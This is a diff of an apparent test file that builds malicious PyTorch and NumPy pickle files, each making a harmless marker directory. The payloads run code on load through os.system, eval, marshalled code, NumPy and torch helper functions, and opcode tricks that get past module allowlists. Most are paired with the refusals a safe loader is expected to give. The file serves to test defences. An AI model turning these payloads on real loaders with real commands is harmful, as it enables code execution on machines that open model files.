@@ -1,19 +1,27 @@
-"""Pickles that run code where the reader lets them: each makes a directory or a file."""
+"""Pickles that run code where the reader lets them: each makes the directory or file `marker`.
 
+    python tests/attacks/payloads.py < a list of pairs (loader, path), as JSON
+
+opens each file with a reader that runs what it says, to show that the payloads are live.
+"""
+
+import contextlib
 import io
+import json
 import marshal
 import os
 import pickle
 import shlex
+import sys
+import zipfile
+from pathlib import Path
 
-from torch_files import named, saved, storage, tensor, view
+import numpy as np
 
-from attacks.catalogue import W, loads, refused, register
-from attacks.pickles import BODY, beside, call, file, name, stack_name, text
+if __name__ == "__main__":
+    sys.path[0] = str(Path(__file__).parents[1])
 
-MKDIR = named("os", "mkdir")
-PLAIN = ("pickle",)
-BOTH = ("pickle", "prefixes")
+import torch_files as tf
 
 
 class Mkdir:
@@ -26,195 +34,232 @@ class Mkdir:
         return os.mkdir, (self.path,)
 
 
-def shell(m):
-    return "mkdir " + shlex.quote(m)
-
-
-def python(m):
-    return f"__import__('os').mkdir({m!r})"
+def python(marker):
+    return f"__import__('os').mkdir({marker!r})"
 
 
 def mapped(function, argument):
     """Call what a call returned."""
-    return call("builtins.list", call("builtins.map", function, [argument]))
+    return tf.call("builtins.list", tf.call("builtins.map", function, [argument]))
 
 
-def from_module(m):
-    return call("builtins.getattr", call("importlib.import_module", "os"), "mkdir")
-
-
-def from_bytes(m):
-    code = marshal.dumps(compile(python(m), "", "eval"))
-    return call("builtins.eval", call("marshal.loads", code))
-
-
-def torch_saved(m):
+def torch_saved(marker):
     """Write a file of PyTorch before 1.6: five pickles, the first of which is enough."""
     target = io.BytesIO()
-    for value in (0x1950A86A20F9469CFC6C, 1001, {}, Mkdir(m), []):
+    for value in (0x1950A86A20F9469CFC6C, 1001, {}, Mkdir(marker), []):
         pickle.dump(value, target, 2)
     return target.getvalue()
 
 
-# What REDUCE calls. The second list passes an allowlist of modules by prefix, and the third needs
-# PyTorch: a test in tests/oracle shows that it is live.
+def by_attribute(attribute, *, end):
+    """Set `os.mkdir` as an attribute that the unpickler calls."""
+    state = b"}" + tf.text(attribute) + tf.name("os.mkdir") + b"s"
+    return lambda m: tf.beside(tf.name("argparse.Namespace") + b")\x81" + state + b"b" + end(m))
+
+
+def objects(marker):
+    """Return an `.npz` of an array of objects beside ``w``."""
+    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,)}\n"
+    content = b"\x93NUMPY\1\0" + len(head).to_bytes(2, "little") + head
+    content += tf.pickled(tf.call("os.mkdir", marker), 4)[0]
+    return tf.zipped({"w.npy": tf.npy(tf.W), "x.npy": content})
+
+
+def mkdir(marker):
+    """Return the opcodes of the call."""
+    return tf.name("os.mkdir") + tf.text(marker) + b"\x85R"
+
+
+def memmap(marker):
+    """Return the arguments with which NumPy's class makes a file."""
+    return b"(" + tf.text(marker) + tf.text("u1") + tf.text("w+") + b"K\x00K\x01t"
+
+
+# What REDUCE calls, by the unsafe readers that then run it: "prefixes" allows NumPy's modules.
 CALLED = {
-    "os.mkdir": lambda m: call("os.mkdir", m),
-    "os.system": lambda m: call("os.system", shell(m)),
-    "posix.system": lambda m: call("posix.system", shell(m)),
-    "subprocess": lambda m: call("subprocess.call", ["mkdir", m]),
-    "eval": lambda m: call("builtins.eval", python(m)),
-    "exec": lambda m: call("builtins.exec", python(m)),
-    "open": lambda m: call("builtins.open", m, "w"),
-    "a chain of getattr": lambda m: mapped(from_module(m), m),
-    "operator.methodcaller": lambda m: mapped(
-        call("operator.methodcaller", "mkdir", m), call("importlib.import_module", "os")
+    "os.mkdir": (lambda m: tf.call("os.mkdir", m), "plain"),
+    "os.system": (lambda m: tf.call("os.system", "mkdir " + shlex.quote(m)), "plain"),
+    "eval": (lambda m: tf.call("builtins.eval", python(m)), "plain"),
+    "getattr": (
+        lambda m: mapped(
+            tf.call("builtins.getattr", tf.call("importlib.import_module", "os"), "mkdir"), m
+        ),
+        "plain",
     ),
-    "functools.partial": lambda m: mapped(call("functools.partial", MKDIR), m),
-    "functools.reduce": lambda m: call("functools.reduce", MKDIR, [m, 0o777]),
-    "marshalled code": from_bytes,
-    "timeit": lambda m: call("timeit.timeit", python(m)),
-    "a log file": lambda m: call("logging.FileHandler", m),
-    "a pickle in the pickle": lambda m: call("pickle.loads", pickle.dumps(Mkdir(m))),
-}
-ALLOWED = {
-    "numpy.testing.runstring": lambda m: call("numpy.testing.runstring", python(m), {}),
-    "numpy.f2py's eval": lambda m: call("numpy.f2py.crackfortran.myeval", python(m)),
-    "numpy.savetxt": lambda m: call("numpy.savetxt", m, [1.0]),
-    "numpy.memmap": lambda m: call("numpy.memmap", m, "u1", "w+", 0, 1),
-}
-TORCH = {
-    "torch.utils.collect_env": lambda m: call("torch.utils.collect_env.run", shell(m)),
-    "torch.jit's exec": lambda m: call(
-        "torch.jit.unsupported_tensor_ops.execWrapper", python(m), {}, {}
+    "functools.partial": (
+        lambda m: mapped(tf.call("functools.partial", tf.named("os", "mkdir")), m),
+        "plain",
     ),
-    "torch.storage": lambda m: call("torch.storage._load_from_bytes", torch_saved(m)),
+    "marshalled code": (
+        lambda m: tf.call(
+            "builtins.eval", tf.call("marshal.loads", marshal.dumps(compile(python(m), "", "eval")))
+        ),
+        "plain",
+    ),
+    "a log file": (lambda m: tf.call("logging.FileHandler", m), "plain"),
+    "a pickle in the pickle": (lambda m: tf.call("pickle.loads", pickle.dumps(Mkdir(m))), "plain"),
+    "NumPy's exec": (lambda m: tf.call("numpy.testing.runstring", python(m), {}), "prefixes"),
+    "NumPy's eval": (lambda m: tf.call("numpy.f2py.crackfortran.myeval", python(m)), "prefixes"),
+    "numpy.memmap": (lambda m: tf.call("numpy.memmap", m, "u1", "w+", 0, 1), "prefixes"),
+    "torch's shell": (
+        lambda m: tf.call("torch.utils.collect_env.run", "mkdir " + shlex.quote(m)),
+        "torch",
+    ),
+    "torch.storage": (lambda m: tf.call("torch.storage._load_from_bytes", torch_saved(m)), "torch"),
 }
-for calls, live in ((CALLED, PLAIN), (ALLOWED, BOTH), (TORCH, ("torch",))):
-    for called, payload in calls.items():
-        register(
-            {"w": W},
-            f"REDUCE of {called}",
-            lambda m, payload=payload: saved({"w": tensor(W), "x": payload(m)}, protocol=4),
-            live=live,
-        )
+LOADS = {"w": tf.W}
+STORED = b"(" + tf.text("storage")
+PAYLOADS = {
+    f"a call of {called}": (
+        lambda m, payload=payload: tf.saved({"w": tf.tensor(tf.W), "x": payload(m)}, protocol=4),
+        LOADS,
+        loader,
+    )
+    for called, (payload, loader) in CALLED.items()
+}
+PAYLOADS |= {
+    "eval of Python 2": (
+        lambda m: tf.beside(tf.name("__builtin__.eval") + tf.text(python(m)) + b"\x85R"),
+        LOADS,
+        "plain",
+    ),
+    "before the weights": (
+        lambda m: tf.saved({"x": tf.call("os.mkdir", m), "w": tf.tensor(tf.W)}),
+        LOADS,
+        "plain",
+    ),
+    "as a key": (
+        lambda m: tf.saved({"w": tf.tensor(tf.W), "x": {tf.call("os.mkdir", m): 1}}),
+        LOADS,
+        "plain",
+    ),
+    "as the hooks of a tensor": (
+        lambda m: tf.saved(
+            {
+                "w": tf.call(
+                    "torch._utils._rebuild_tensor_v2",
+                    *(tf.storage(tf.W), 0, (3,), (1,), False, tf.call("os.mkdir", m)),
+                )
+            }
+        ),
+        LOADS,
+        "plain",
+    ),
+    "as the offset of a tensor": (
+        lambda m: tf.saved({"w": tf.view(tf.storage(tf.W), tf.call("os.mkdir", m), (3,), (1,))}),
+        "must have an offset",
+        "plain",
+    ),
+    "instead of the weights": (
+        lambda m: tf.saved(tf.call("os.mkdir", m)),
+        "must hold a tensor",
+        "plain",
+    ),
+    "before a pickle breaks off": (
+        lambda m: tf.with_pickle(b"}" + mkdir(m) + b"X\xff"),
+        "pickle must be complete",
+        "plain",
+    ),
+    "thrown away": (lambda m: tf.beside(mkdir(m) + b"0N"), LOADS, "plain"),
+    "in a persistent id": (
+        lambda m: tf.beside(STORED + mkdir(m) + tf.text("0") + tf.text("cpu") + b"K\x03tQ"),
+        "a storage must have a type",
+        "plain",
+    ),
+    "by INST": (lambda m: tf.beside(b"(" + tf.text(m) + b"ios\nmkdir\n"), "found INST", "plain"),
+    "by OBJ": (
+        lambda m: tf.beside(b"(" + tf.name("os.mkdir") + tf.text(m) + b"o"),
+        "found OBJ",
+        "plain",
+    ),
+    "by EXT": (
+        lambda m: tf.beside(
+            tf.name("copyreg.add_extension")
+            + (tf.text("os") + tf.text("mkdir") + b"K\x01\x87R0\x82\x01" + tf.text(m) + b"\x85R")
+        ),
+        "found EXT1",
+        "plain",
+    ),
+    "by NEWOBJ": (
+        lambda m: tf.beside(tf.name("numpy.memmap") + memmap(m) + b"\x81"),
+        LOADS,
+        "prefixes",
+    ),
+    "by NEWOBJ_EX": (
+        lambda m: tf.beside(
+            tf.name("numpy.memmap")
+            + b")}("
+            + (
+                tf.text("filename")
+                + tf.text(m)
+                + tf.text("mode")
+                + tf.text("w+")
+                + tf.text("shape")
+            )
+            + b"K\x01u\x92"
+        ),
+        LOADS,
+        "prefixes",
+    ),
+    "by BUILD": (by_attribute("__setstate__", end=lambda m: tf.text(m) + b"b"), LOADS, "plain"),
+    "by APPEND": (by_attribute("append", end=lambda m: tf.text(m) + b"a"), LOADS, "plain"),
+    "by ADDITEMS": (by_attribute("add", end=lambda m: b"(" + tf.text(m) + b"\x90"), LOADS, "plain"),
+    "by a dotted name": (
+        lambda m: tf.beside(
+            tf.text("numpy.testing._private.utils")
+            + tf.text("os.mkdir")
+            + b"\x93"
+            + tf.text(m)
+            + b"\x85R",
+            b"\x80\x04",
+        ),
+        LOADS,
+        "prefixes",
+    ),
+    "in an array of objects": (objects, LOADS, "numpy"),
+    "in a plain pickle": (
+        lambda m: pickle.dumps({"w": tf.W.tolist(), "x": Mkdir(m)}),
+        "a plain pickle, which could run any code",
+        "pickle",
+    ),
+    "in a file before PyTorch 1.6": (torch_saved, "format before 1.6", "pickles"),
+}
 
 
-@loads(live=PLAIN)
-def by_the_name_of_eval_in_Python_2(m):
-    return beside(name("__builtin__.eval") + text(python(m)) + b"\x85R")
+class Plain(pickle.Unpickler):
+    """What a reader does that imports PyTorch's classes as inert ones, and everything else."""
+
+    def find_class(self, module, attribute):
+        if module in ("torch", "torch._utils"):
+            return lambda *_: None
+        return super().find_class(module, attribute)
+
+    def persistent_load(self, _):
+        return None
 
 
-@loads(live=PLAIN)
-def before_the_weights(m):
-    return saved({"x": call("os.mkdir", m), "w": tensor(W)})
+class Prefixes(Plain):
+    """What many readers do: allow the modules that weights are thought to need."""
+
+    def find_class(self, module, attribute):
+        if module.partition(".")[0] not in ("torch", "numpy", "collections", "argparse"):
+            raise pickle.UnpicklingError(module)
+        return super().find_class(module, attribute)
 
 
-@loads(live=PLAIN)
-def as_a_key(m):
-    return saved({"w": tensor(W), "x": {call("os.mkdir", m): 1}})
+def opened(loader, path):
+    """Open a file as `loader` does."""
+    if loader == "numpy":
+        return dict(np.load(path, allow_pickle=True))
+    with open(path, "rb") as file:  # noqa: PTH123 - as its users do
+        while loader in ("pickle", "pickles"):
+            Plain(file).load()
+    with zipfile.ZipFile(path) as archive, archive.open("archive/data.pkl") as file:
+        return (Plain if loader == "plain" else Prefixes)(file).load()
 
 
-@loads(live=PLAIN)
-def as_the_hooks_of_a_tensor(m):
-    arguments = (storage(W), 0, (3,), (1,), False, call("os.mkdir", m))
-    return saved({"w": call("torch._utils._rebuild_tensor_v2", *arguments)})
-
-
-@refused(
-    "a tensor must have an offset, a size, strides and one set of flags",
-    live=PLAIN,
-)
-def as_the_offset_of_a_tensor(m):
-    return saved({"w": view(storage(W), call("os.mkdir", m), (3,), (1,))})
-
-
-@refused("must hold a Boolean, integer or float tensor, found none", live=PLAIN)
-def instead_of_the_weights(m):
-    return saved(call("os.mkdir", m))
-
-
-@refused("the pickle must be complete, found its end", live=PLAIN)
-def before_a_pickle_breaks_off(m):
-    return file(b"}" + name("os.mkdir") + text(m) + b"\x85RX\xff")
-
-
-@loads(live=PLAIN)
-def thrown_away_by_POP(m):
-    return beside(name("os.mkdir") + text(m) + b"\x85R0N")
-
-
-@refused("the pickle must describe storages by type, key and size", live=PLAIN)
-def in_a_persistent_id(m):
-    payload = name("os.mkdir") + text(m) + b"\x85R"
-    return beside(b"(" + text("storage") + payload + text("0") + text("cpu") + b"K\x03tQ")
-
-
-@refused("opcodes of protocols 2 to 5 that describe values, found opcode 69", live=PLAIN)
-def by_INST(m):
-    return beside(b"(" + text(m) + b"ios\nmkdir\n")
-
-
-@loads(live=PLAIN)
-def by_OBJ(m):
-    return beside(b"(" + name("os.mkdir") + text(m) + b"o")
-
-
-@refused("opcodes of protocols 2 to 5 that describe values, found opcode 82", live=PLAIN)
-def by_EXT(m):
-    registered = name("copyreg.add_extension") + text("os") + text("mkdir") + b"K\x01\x87R0"
-    return beside(registered + b"\x82\x01" + text(m) + b"\x85R")
-
-
-@loads(live=BOTH)
-def by_NEWOBJ(m):
-    arguments = b"(" + text(m) + text("u1") + text("w+") + b"K\x00K\x01t"
-    return beside(name("numpy.memmap") + arguments + b"\x81")
-
-
-@loads(live=BOTH)
-def by_NEWOBJ_EX(m):
-    options = b"}(" + text("filename") + text(m) + text("mode") + text("w+")
-    return beside(name("numpy.memmap") + b")" + options + text("shape") + b"K\x01u\x92")
-
-
-def namespace(attribute):
-    """Return an object with `os.mkdir` as an attribute that the unpickler calls."""
-    state = b"}" + text(attribute) + name("os.mkdir") + b"s"
-    return name("argparse.Namespace") + b")\x81" + state + b"b"
-
-
-@loads(live=PLAIN)
-def by_BUILD_of_a_setstate(m):
-    return beside(namespace("__setstate__") + text(m) + b"b")
-
-
-@loads(live=PLAIN)
-def by_APPEND(m):
-    return beside(namespace("append") + text(m) + b"a")
-
-
-@loads(live=PLAIN)
-def by_ADDITEMS(m):
-    return beside(namespace("add") + b"(" + text(m) + b"\x90")
-
-
-@refused("the pickle must put pairs into a dict, found Global")
-def by_SETITEM_of_the_environment():
-    return beside(name("os.environ") + text("PATH") + text("/tmp") + b"s")
-
-
-@loads(live=BOTH)
-def by_a_dotted_name_in_NumPy(m):
-    function = stack_name("numpy.testing._private.utils", "os.mkdir")
-    return beside(function + text(m) + b"\x85R", b"\x80\x04")
-
-
-@loads(live=BOTH)
-def by_a_dotted_name_in_argparse(m):
-    return beside(stack_name("argparse", "_os.mkdir") + text(m) + b"\x85R", b"\x80\x04")
-
-
-@refused("the pickle must call a class or function, found Tensor")
-def a_tensor_as_a_function():
-    return beside(BODY + b")R")
+if __name__ == "__main__":
+    for loader, path in json.load(sys.stdin):
+        with contextlib.suppress(BaseException):
+            opened(loader, path)
+    os._exit(0)  # what the payloads left behind cleans up nothing
